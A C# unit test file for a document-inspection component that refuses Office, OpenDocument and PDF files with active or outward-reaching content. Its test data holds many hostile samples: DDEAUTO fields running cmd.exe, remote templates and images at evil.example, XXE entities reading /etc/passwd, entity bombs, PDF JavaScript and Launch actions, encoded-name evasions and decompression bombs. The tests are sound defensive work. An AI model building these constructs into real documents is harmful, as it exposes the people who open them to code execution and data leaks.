using Kwartiermaker.Common.Files;
using System.IO.Compression;
using System.Text;
using static Kwartiermaker.Tests.Common.Files.SampleFiles;

namespace Kwartiermaker.Tests.Common.Files;

/// <summary>What a document does when it is opened decides, not how its parts are called; what ordinary documents hold goes through.</summary>
public sealed class DangerousFileTests
{
    private const string Office365 = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string Microsoft = "http://schemas.microsoft.com/office/2006/relationships/";

    public static TheoryData<string, byte[], string> Refused => new()
    {
        // Word.
        { "sjabloon.docx", Word("settings", Link("attachedTemplate", "https://evil.example/t.dotm", outside: true)), FileRefusals.ReachesOut },
        { "sjabloon-unc.docx", Word("settings", Link("attachedTemplate", "file:///\\\\evil.example\\t.dotm", outside: true)), FileRefusals.ReachesOut },
        { "sjabloon-share.docx", Word("settings", Link("attachedTemplate", "\\\\evil.example\\t.dotm", outside: true)), FileRefusals.ReachesOut },
        { "plaatje.docx", Word("document", Link("image", "http://evil.example/pixel.png", outside: true)), FileRefusals.ReachesOut },
        { "frame.docx", Word("document", Link("frame", "http://evil.example/a.htm", outside: true)), FileRefusals.ReachesOut },
        { "ole-buiten.docx", Word("document", Link("oleObject", "http://evil.example/a.hta", outside: true)), FileRefusals.HasEmbedded },
        { "ole.docx", Word("document", Link("oleObject", "embeddings/oleObject1.bin")), FileRefusals.HasEmbedded },
        { "ole-los.docx", Word("document", "", ("word/media/image1.png", Bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1))), FileRefusals.HasEmbedded },
        { "programma.docx", Word("document", "", ("word/embeddings/evil.exe", Exe)), FileRefusals.HasEmbedded },
        { "programma-foto.docx", Word("document", "", ("word/media/foto.jpg", Exe)), FileRefusals.HasEmbedded },
        { "archief.docx", Word("document", "", ("word/embeddings/a.xlsx", Zip(("a.js", "x")))), FileRefusals.HasEmbedded },
        { "macro-anders.docx", Word("document", Link("vbaProject", "teksten.bin", type: Microsoft)), FileRefusals.HasMacros },
        { "control.docx", Word("document", Link("control", "activeX/activeX1.xml")), FileRefusals.Active },
        { "macro-in-grafiek.docx", Word("document", "", ("word/embeddings/a.xlsx", Office(ExcelMain, ("xl/vbaProject.bin", "x")))), FileRefusals.HasMacros },
        { "te-diep.docx", Word("document", "", ("a.docx", Word("document", "", ("a.docx", Word("document", "", ("a.docx", Docx)))))), FileRefusals.HasEmbedded },
        { "dtd.docx", Office(WordMain, ("word/document.xml", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><d>&a;</d>")), FileRefusals.Broken },
        { "dtd-in-lijst.docx", Zip(("[Content_Types].xml", $"<!DOCTYPE a [<!ENTITY b \"c\">]><Types><Override ContentType=\"{WordMain}\"/></Types>")), FileRefusals.Broken },
        { "dde.docx", Fields(Field(Code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"))), FileRefusals.Active },
        { "dde-in-stukken.docx", Fields(Field(Code(" D") + Code("D") + Code("E cmd &quot;/k calc&quot;"))), FileRefusals.Active },
        { "dde-kort.docx", Fields("<w:p><w:fldSimple w:instr=\"dde cmd x\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"), FileRefusals.Active },
        { "dde-binnen.docx", Fields(Field(Code("IF 1 = 1 ") + Field(Code("DDE cmd x")))), FileRefusals.Active },
        { "naam-uit-veld.docx", Fields(Field(Field(Code("QUOTE 68 68 69")) + Code(" cmd x"))), FileRefusals.Active },
        { "veld-zonder-einde.docx", Fields("<w:p>" + Mark("begin") + Code("DDEAUTO cmd x") + "</w:p>"), FileRefusals.Active },
        { "veld-zonder-begin.docx", Fields("<w:p>" + Code("DDE") + Code("AUTO cmd x") + "</w:p>"), FileRefusals.Active },
        { "andere-naam.docx", With(
            Office(WordMain + "\"/><Override PartName=\"/word/tekst.bin\" ContentType=\"" + WordMain),
            [("word/tekst.bin", Utf8(Document(Field(Code("DDE cmd x")))))]),
            FileRefusals.Active },
        { "plaatje-veld.docx", Fields(Field(Code("INCLUDEPICTURE &quot;https://evil.example/") + Code("a.png&quot; \\d"))), FileRefusals.ReachesOut },
        { "plaatje-schakelaar.docx", Fields(Field(Code("INCLUDEPICTURE \\d \\* MERGEFORMAT https://evil.example/a.png"))), FileRefusals.ReachesOut },
        { "plaatje-share.docx", Fields(Field(Code("INCLUDEPICTURE &quot;\\\\\\\\evil.example\\\\a.png&quot;"))), FileRefusals.ReachesOut },
        { "plaatje-berekend.docx", Fields(Field(Code("INCLUDEPICTURE ") + Field(Code("DOCPROPERTY x")))), FileRefusals.ReachesOut },
        { "tekst-veld.docx", Fields("<w:p><w:fldSimple w:instr=\"INCLUDETEXT file://evil.example/a.docx\"/></w:p>"), FileRefusals.ReachesOut },
        { "koppeling-veld.docx", Fields(Field(Code("LINK Excel.Sheet.12 &quot;C:\\\\a.xlsx&quot;"))), FileRefusals.ReachesOut },
        { "twee-formaten.docx", With(Docx, [("mimetype", Utf8("application/vnd.oasis.opendocument.text"))]), FileRefusals.Broken },
        { "diep.docx", Fields(string.Concat(Enumerable.Repeat("<w:p>", 2_000)) + string.Concat(Enumerable.Repeat("</w:p>", 2_000))), FileRefusals.Broken },
        // Excel.
        { "koppeling.xlsx", Excel(Link("externalLink", "externalLinks/externalLink1.xml")), FileRefusals.ReachesOut },
        { "verbinding.xlsx", Excel(Link("connections", "connections.xml")), FileRefusals.ReachesOut },
        { "xlm.xlsx", Excel(Link("xlMacrosheet", "worksheets/blad9.xml", type: Microsoft)), FileRefusals.HasMacros },
        { "xlm-soort.xlsx", Office(ExcelMain + "\"/><Override PartName=\"/xl/b.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml",
            ("xl/b.xml", "<a/>")), FileRefusals.HasMacros },
        { "xlm-vertaald.xlsx", Office(ExcelMain + "\"/><Override PartName=\"/xl/b.xml\" ContentType=\"application/vnd.ms-excel.intlmacrosheet+xml",
            ("xl/b.xml", "<a/>")), FileRefusals.HasMacros },
        { "activex.xlsx", Office(ExcelMain + "\"/><Override PartName=\"/xl/x.xml\" ContentType=\"application/vnd.ms-office.activeX+xml",
            ("xl/x.xml", "<a/>")), FileRefusals.Active },
        { "lachen.xlsx", Office(ExcelMain, ("xl/workbook.xml", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>")), FileRefusals.Broken },
        { "dtd-in-rels.xlsx", Office(ExcelMain, ("xl/_rels/workbook.xml.rels", "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>")), FileRefusals.Broken },
        // OpenDocument.
        { "ole.odt", OpenDocumentWith(("Object 1", Bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1))), FileRefusals.HasEmbedded },
        { "plaatje.odt", OpenText("<draw:frame><draw:image xlink:href=\"https://evil.example/a.png\"/></draw:frame>"), FileRefusals.ReachesOut },
        { "plaatje-bestand.odt", OpenText("<draw:image xlink:href=\"file:///C:/a.png\"/>"), FileRefusals.ReachesOut },
        { "plaatje-share.odt", OpenText("<draw:image xlink:href=\"\\\\evil.example\\a.png\"/>"), FileRefusals.ReachesOut },
        { "plaatje-ernaast.odt", OpenText("<draw:image xlink:href=\"../a.png\"/>"), FileRefusals.ReachesOut },
        { "plaatje-vermomd.odt", OpenText("<draw:image xlink:href=\"Pictures/%2e%2e/..%5c../a.png\"/>"), FileRefusals.ReachesOut },
        { "achtergrond.odt", With(Odt, [("styles.xml", Utf8(OpenXml("<style:background-image xlink:href=\"http://evil.example/a.png\"/>")))]), FileRefusals.ReachesOut },
        { "plaatje-in-object.odt", With(Odt, [("Object 1/content.xml", Utf8(OpenXml("<draw:image xlink:href=\"../../a.png\"/>")))]), FileRefusals.ReachesOut },
        { "object.odt", OpenText("<draw:object xlink:href=\"http://evil.example/a.odt\"/>"), FileRefusals.ReachesOut },
        { "gedeelte.odt", OpenText("<text:section><text:section-source xlink:href=\"../ander.odt\"/></text:section>"), FileRefusals.ReachesOut },
        { "sjabloon.odt", With(Odt, [("meta.xml", Utf8(OpenXml("<meta:template xlink:href=\"https://evil.example/t.ott\"/>")))]), FileRefusals.ReachesOut },
        { "dde.odt", OpenText("<text:section><office:dde-source office:dde-application=\"soffice\"/></text:section>"), FileRefusals.ReachesOut },
        { "dde-lijst.odt", OpenText("<text:dde-connection-decls><text:dde-connection-decl office:dde-application=\"cmd\"/></text:dde-connection-decls>"), FileRefusals.ReachesOut },
        { "gebeurtenis.odt", OpenText("<office:event-listeners><script:event-listener xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" "
            + "script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:a.py$x?language=Python&amp;location=share\"/></office:event-listeners>"), FileRefusals.Active },
        { "script.odt", OpenText("<office:scripts><office:script>x</office:script></office:scripts>"), FileRefusals.Active },
        { "link-naar-macro.odt", OpenText("<text:a xlink:href=\"vnd.sun.star.script:a.py$x?language=Python\">x</text:a>"), FileRefusals.Active },
        { "formule.ods", With(
            Ods, [("styles.xml", Utf8(OpenXml("<table:table-cell table:formula=\"of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)\"/>")))]), FileRefusals.ReachesOut },
        { "andere-map.ods", With(Ods, [("styles.xml", Utf8(OpenXml("<table:table-cell table:formula=\"of:=['file:///tmp/a.ods'#$Blad1.A1]\"/>")))]), FileRefusals.ReachesOut },
        // PDF.
        { "script.pdf", PdfWith("<</S/JavaScript/JS(app.alert(1))>>"), FileRefusals.Active },
        { "script-anders.pdf", PdfWith("<</S/J#61v#61Script/JS(app.alert(1))>>"), FileRefusals.Active },
        { "open.pdf", PdfWith("<</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>"), FileRefusals.Active },
        { "start.pdf", PdfWith("<</S/Launch/F(cmd.exe)>>"), FileRefusals.Active },
        { "formulier.pdf", PdfWith("<</AcroForm<</XFA 3 0 R>>>>"), FileRefusals.Active },
        { "bijlage.pdf", PdfWith("<</Type/EmbeddedFile/Length 3>>"), FileRefusals.HasEmbedded },
        { "bijlagen.pdf", PdfWith("<</Names<</EmbeddedFiles 4 0 R>>>>"), FileRefusals.HasEmbedded },
        { "script-ingepakt.pdf", PdfPacked("<</S/JavaScript/JS(x)>>"), FileRefusals.Active },
        { "bijlage-ingepakt.pdf", PdfPacked("<</Type/EmbeddedFile>>"), FileRefusals.HasEmbedded },
        { "twee-filters.pdf", PdfWith("<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\nAABB\nendstream"), FileRefusals.Broken },
        { "verstopt.pdf", PdfWith("<</Type/ObjStm/Filter/FlateDecode/X(stream\n)>>stream\nx\nendstream"), FileRefusals.Broken },
        { "ander-bestand.pdf", PdfWith("<</S/GoToR/F(\\\\evil.example\\a.pdf)>>"), FileRefusals.ReachesOut },
        { "ingesloten-bestand.pdf", PdfWith("<</S/GoToE/F(a.pdf)>>"), FileRefusals.ReachesOut },
        { "verstuurt.pdf", PdfWith("<</S/SubmitForm/F(https://evil.example/)>>"), FileRefusals.ReachesOut },
        { "leest-gegevens.pdf", PdfPacked("<</S/Import#44ata/F(a.fdf)>>"), FileRefusals.ReachesOut },
        { "twee-keer.pdf", PdfPacked("<</S/JavaScript/JS(x)>>", "/Filter[/FlateDecode/FlateDecode]", times: 2), FileRefusals.Broken },
        { "voorspeller.pdf", PdfPacked("<</S/JavaScript/JS(x)>>", "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1>>"), FileRefusals.Broken },
        { "filter-elders.pdf", PdfPacked("<</S/JavaScript/JS(x)>>", "/Filter 7 0 R/X/FlateDecode", times: 2), FileRefusals.Broken },
        { "lokvogel.pdf", [.. PdfPacked("x", "/Filter/FlateDecode/X(>>stream\n" + Encoding.Latin1.GetString(Deflated("x"u8.ToArray())) + ")")], FileRefusals.Broken },
        { "slot.pdf", [.. PdfPacked("<</Type/Catalog>>")[..^6], .. "trailer<</Encrypt 9 0 R>>\n%%EOF\n"u8], FileRefusals.Encrypted },
    };

    public static TheoryData<string, byte[]> Ordinary => new()
    {
        { "link.docx", Word("document", Link("hyperlink", "https://www.coa.nl/", outside: true)) },
        { "eigen-sjabloon.docx", Word("settings", Link("attachedTemplate", "file:///C:\\Users\\jansen\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", outside: true)) },
        { "eigen-sjabloon-naam.docx", Word("settings", Link("attachedTemplate", "Normal.dotm", outside: true)) },
        { "grafiek.docx", Word("charts/chart1", Link("package", "../embeddings/Werkblad.xlsx"), ("word/embeddings/Werkblad.xlsx", Xlsx)) },
        { "grafiek.pptx", Office("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", ("ppt/presentation.xml", "<p/>")) },
        { "tekening.docx", Word("document", "", ("word/media/image1.emz", Gzip("tekening"))) },
        { "foto.docx", Word("document", "", ("word/media/image1.png", Png)) },
        { "verborgen-blad.xlsx", Excel(Link("worksheet", "worksheets/sheet1.xml")) },
        { "velden.docx", Fields(
            Field(Code("HYPERLINK &quot;https://www.coa.nl/?q=DDEAUTO&quot; \\o &quot;INCLUDEPICTURE&quot;")) + Field(Code(" PAGE   \\* MERGEFORMAT "))
            + Mark("begin") + Code(" TOC \\o &quot;1-3&quot; \\h \\z \\u ") + Mark("separate") + "</w:p><w:p>" + Field(Code(" PAGEREF _Toc1 \\h ")) + Mark("end")
            + "<w:fldSimple w:instr=\" NUMPAGES \"/><w:r><w:t>DDE is verouderd; LINK ook</w:t></w:r>"
            + Field(Code(" IF ") + Field(Code("MERGEFIELD Naam")) + Code(" = &quot;&quot; &quot;a&quot; &quot;b&quot;")) + Field(Code("MACROBUTTON NoMacro [naam]"))) },
        { "plaatje-uit-mail.docx", Fields(Field(Code("INCLUDEPICTURE &quot;cid:image001.png@01DA.5B&quot; \\* MERGEFORMATINET"))) },
        { "plaatje-eigen-schijf.docx", Fields(Field(Code("INCLUDEPICTURE &quot;C:\\\\Users\\\\jansen\\\\logo.png&quot; \\d"))) },
        { "tekening-met-dtd.docx", Word("document", "", ("word/media/image1.svg", Utf8("<!DOCTYPE svg PUBLIC \"a\" \"b\"><svg/>"))) },
        { "gewoon.odt", With(
            Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", OpenXml("<office:scripts/>"
                + "<office:font-face-decls><svg:font-face-uri xlink:href=\"Fonts/a.ttf\"/>"
                + "</office:font-face-decls><office:forms/><text:a xlink:href=\"https://www.coa.nl/\">COA</text:a><text:a xlink:href=\"mailto:a@b.nl\">a</text:a>"
                + "<draw:a xlink:href=\"../bijlage.pdf\"><draw:image xlink:href=\"Pictures/1.png\"/></draw:a><text:a xlink:href=\"#Kop|outline\">kop</text:a>"
                + "<draw:image-map><draw:area-rectangle xlink:href=\"https://www.coa.nl/\"/></draw:image-map>"
                + "<draw:object xlink:href=\"./Object 1\"/><draw:image xlink:href=\"./ObjectReplacements/Object 1\"/><form:form xlink:href=\"\"/>"))),
            [
                ("Object 1/content.xml", Utf8(OpenXml("<chart:chart xlink:href=\"..\"/>"))),
                ("meta.xml", Utf8(OpenXml("<meta:template xlink:href=\"../../../home/jansen/Sjablonen/brief.ott\"/>"))),
                ("Configurations2/accelerator/current.xml", Utf8(OpenXml("<accel:item xlink:href=\".uno:Bold\"/>"))),
                ("Configurations2/menubar/leeg.xml", []),
            ]) },
        { "som.ods", With(Ods, [("styles.xml", Utf8(OpenXml("<table:table-cell table:formula=\"of:=SUM([.A1:.A3])+['Blad twee'.B1]\"/>")))]) },
        { "ingepakt-met-lijst.pdf", [.. PdfPacked("<</Type/Catalog>>", "\n/Filter [ /FlateDecode ] /Extends 4 0 R ")[..^6],
            .. Utf8("6 0 obj <</Type/XRef/W[1 2 1]/Filter/FlateDecode/DecodeParms<</Columns 4/Predictor 12>>/Length 8>>stream\nxxxxxxxx\nendstream endobj\n%%EOF\n")] },
        { "ondertekend.pdf", [.. Pdf[..^6], .. "3 0 obj<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>/Reason(<<x>>)>>endobj\n"u8, .. PdfPacked("<</Type/Catalog>>")[9..]] },
        { "opent-op-bladzijde.pdf", PdfWith("<</Type/Catalog/OpenAction[3 0 R/FitH null]>>") },
        { "ingepakt.pdf", PdfPacked("<</Type/Catalog/Pages 2 0 R>>") },
        { "op-slot.pdf", PdfWith("<</Type/Catalog>>endobj trailer<</Encrypt 9 0 R>>") },
        { "over-javascript.pdf", PdfWith("<</Length 30>>stream\n(over JavaScript en Launch) Tj\nendstream") },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void Inspect_WithWhatActsOrHides_RefusesIt(string name, byte[] content, string code) =>
        Assert.Equal(code, Assert.IsType<FileVerdict.Refused>(Inspect(name, content)).Code);

    [Theory]
    [MemberData(nameof(Ordinary))]
    public void Inspect_WithAnOrdinaryDocument_AcceptsIt(string name, byte[] content) => Assert.IsType<FileVerdict.Accepted>(Inspect(name, content));

    /// <summary>Half a million words "stream" cost no more than reading them once.</summary>
    [Fact]
    public void Inspect_WithAPdfMadeToBeSlow_EndsSoon()
    {
        var slow = PdfWith(string.Concat(Enumerable.Repeat("/ObjStx stream\n/a", 500_000)));
        var watch = System.Diagnostics.Stopwatch.StartNew();

        Assert.NotNull(Inspect("traag.pdf", slow));
        Assert.InRange(watch.Elapsed.TotalSeconds, 0, 10);
    }

    /// <summary>Of a few kilobytes, and as large in the end as the memory of a node.</summary>
    [Fact]
    public void Inspect_WithAPdfThatSwells_RefusesIt()
    {
        Assert.Equal(FileRefusals.Broken, Assert.IsType<FileVerdict.Refused>(Inspect("a.pdf", PdfPacked(new string(' ', 51 * 1024 * 1024)))).Code);
        Assert.Equal(FileRefusals.Active, Assert.IsType<FileVerdict.Refused>(Inspect("a.pdf", PdfPacked(new string(' ', 10 * 1024 * 1024) + "/JavaScript"))).Code);
        Assert.IsType<FileVerdict.Accepted>(Inspect("a.pdf", PdfPacked(new string(' ', 10 * 1024 * 1024) + "/JavaScripts")));
    }

    /// <summary>A name, also one of numbers, is whole wherever the blocks end in which it is unpacked.</summary>
    [Fact]
    public void Inspect_WithANameOnTheSeam_SeesIt()
    {
        foreach (var name in new[] { "/JavaScript", "/#4A#61#76#61#53#63#72#69#70#74" })
        {
            for (var before = (64 * 1024) - 80; before < (64 * 1024) + 160; before += 3)
            {
                Assert.Equal(FileRefusals.Active, Assert.IsType<FileVerdict.Refused>(Inspect("a.pdf", PdfPacked(new string(' ', before) + name + " "))).Code);
                Assert.IsType<FileVerdict.Accepted>(Inspect("a.pdf", PdfPacked(new string(' ', before) + name + "s ")));
            }
        }
    }

    /// <summary>Many beginnings of the same long piece that unpacks to nothing.</summary>
    [Fact]
    public void Inspect_WithAPdfThatIsPackedOverAndOver_GivesUp()
    {
        var start = Utf8("<</Type/ObjStm/Filter/FlateDecode>>stream\n");
        byte[] entry = [.. start, 0x78, 0x01];
        var body = new List<byte>(entry);
        for (var i = 1; i < 300; i++)
            body.AddRange([0, (byte)entry.Length, 0, (byte)(255 - entry.Length), 0xFF, .. entry]);
        body.AddRange([0, 1, 0, 0xFE, 0xFF, (byte)'x']);
        for (var i = 0; i < 1024 * 1024; i++)
            body.AddRange([0, 0, 0, 0xFF, 0xFF]);

        byte[] slow = [.. "%PDF-1.7\n"u8, .. body, .. "\n%%EOF\n"u8];

        Assert.Equal(FileRefusals.Broken, Assert.IsType<FileVerdict.Refused>(Inspect("a.pdf", slow)).Code);
    }

    private static FileVerdict Inspect(string name, byte[] content) => FileSniffer.Inspect(new MemoryStream(content), name, 25 * 1024 * 1024);

    private static string Link(string kind, string target, bool outside = false, string type = Office365) =>
        $"""<Relationship Id="r1" Type="{type}{kind}" Target="{target}"{(outside ? " TargetMode=\"External\"" : "")}/>""";

    private static byte[] Word(string part, string links, params (string Name, byte[] Content)[] more) =>
        With(Office(WordMain, ("word/document.xml", "<document/>"), ($"word/_rels/{part}.xml.rels", $"<Relationships>{links}</Relationships>")), more);

    /// <summary>A document with these paragraphs.</summary>
    private static byte[] Fields(string paragraphs) => Office(WordMain, ("word/document.xml", Document(paragraphs)));

    private static string Document(string paragraphs) =>
        $"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>{paragraphs}</w:p></w:body></w:document>";

    private static string Field(string code) => Mark("begin") + code + Mark("separate") + "<w:r><w:t>1</w:t></w:r>" + Mark("end");

    private static string Mark(string type) => $"<w:r><w:fldChar w:fldCharType=\"{type}\"/></w:r>";

    private static string Code(string text) => $"<w:r><w:instrText xml:space=\"preserve\">{text}</w:instrText></w:r>";

    private static byte[] OpenText(string body) => Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", OpenXml(body)));

    private static string OpenXml(string body)
    {
        string[] names = ["office", "text", "draw", "table", "form", "style", "meta", "chart", "svg-compatible"];
        var spaces = string.Concat(names.Select(n => $" xmlns:{n.Split('-')[0]}=\"urn:oasis:names:tc:opendocument:xmlns:{n}:1.0\""));
        return $"<office:document-content xmlns:xlink=\"http://www.w3.org/1999/xlink\" xmlns:accel=\"http://openoffice.org/2001/accel\"{spaces}>{body}</office:document-content>";
    }

    private static byte[] Excel(string links) =>
        Office(ExcelMain, ("xl/workbook.xml", "<workbook/>"), ("xl/_rels/workbook.xml.rels", $"<Relationships>{links}</Relationships>"));

    private static byte[] OpenDocumentWith(params (string Name, byte[] Content)[] more) => With(Odt, more);

    private static byte[] PdfWith(string body) => Utf8($"%PDF-1.7\n1 0 obj\n{body}\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n");

    private static byte[] Gzip(string content)
    {
        using var packed = new MemoryStream();
        using (var zip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            zip.Write(Encoding.UTF8.GetBytes(content));
        return packed.ToArray();
    }

    private static byte[] Bytes(params byte[] start) => [.. start, .. new byte[64]];
}
